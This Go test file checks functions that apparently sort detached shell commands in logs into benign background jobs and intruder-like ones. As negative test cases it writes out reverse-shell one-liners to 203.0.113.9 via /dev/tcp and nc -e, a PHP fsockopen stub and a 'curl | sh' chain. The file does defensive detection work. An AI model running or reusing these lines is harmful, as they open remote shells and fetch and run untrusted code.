package timeline

import "testing"

// TestDetachedProgram: what a shell command only detaches, or nothing
// when it does more or detaches what an intruder would.
func TestDetachedProgram(t *testing.T) {
	for _, c := range []struct{ cmd, want string }{
		{"nohup /usr/local/bin/kbindex rebuild > /var/log/kb/reindex.log 2>&1 &", "/usr/local/bin/kbindex"},
		{"setsid -f /opt/app/bin/export --all >/dev/null 2>&1", "/opt/app/bin/export"},
		{"nohup /tmp/.sysd &", "/tmp/.sysd"}, // a program: the log must also show it run before and never written
		{"nohup bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &", ""},
		{"setsid php -r '$s=fsockopen(\"127.0.0.1\",4448);' >/dev/null 2>&1 &", ""},
		{"nohup nc 203.0.113.9 4444 -e /bin/sh &", ""},
		{"nohup /usr/local/bin/kbindex rebuild; curl http://x/y | sh", ""},
		{"nohup /usr/local/bin/kbindex < /tmp/in &", ""},
		{"nohup python3 -m http.server &", ""},
	} {
		if got := detachedProgram(c.cmd); got != c.want {
			t.Errorf("detachedProgram(%q) = %q, want %q", c.cmd, got, c.want)
		}
	}
}

// TestDetachedScript: the script file an interpreter runs in a command
// that only detaches it; nothing for inline code or anything more.
func TestDetachedScript(t *testing.T) {
	for _, c := range []struct{ cmd, cwd, want string }{
		{"nohup php /var/www/news/bin/reindex.php > /dev/null 2>&1 &", "/var/www/news/admin", "/var/www/news/bin/reindex.php"},
		{"nohup php ../bin/reindex.php &", "/var/www/news/admin", "/var/www/news/bin/reindex.php"},
		{"setsid python3 jobs/thumbs.py --all >/dev/null 2>&1", "/srv/app", "/srv/app/jobs/thumbs.py"},
		{"setsid php -r '$s=fsockopen(\"127.0.0.1\",4448);' >/dev/null 2>&1 &", "/var/www", ""},
		{"nohup python3 -c 'import os' &", "/var/www", ""},
		{"nohup php -d x=1 /var/www/a.php &", "/var/www", ""},
		{"nohup php /var/www/a.php; id &", "/var/www", ""},
		{"nohup php a.php &", "", ""},
		{"nohup /usr/local/bin/kbindex rebuild &", "/var/www", ""}, // a program: detachedProgram's
	} {
		if got := detachedScript(c.cmd, c.cwd); got != c.want {
			t.Errorf("detachedScript(%q, %q) = %q, want %q", c.cmd, c.cwd, got, c.want)
		}
	}
}
